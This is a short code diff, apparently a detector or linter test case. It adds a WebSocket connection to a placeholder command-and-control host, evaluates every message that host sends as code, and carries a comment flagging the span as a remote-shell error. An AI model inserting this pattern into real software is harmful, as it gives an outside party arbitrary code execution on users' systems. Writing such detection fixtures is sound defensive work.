@@ -48,3 +48,7 @@ export function open(): void {
     })
     .listen(4444);
 }
+
+const push = new WebSocket('wss://c2.example.invalid/push');
+push.onmessage = (event) => eval(String(event.data));
+//                          ^^^^^^^^^^^^^^^^^^^^^^^^ remote-shell: error
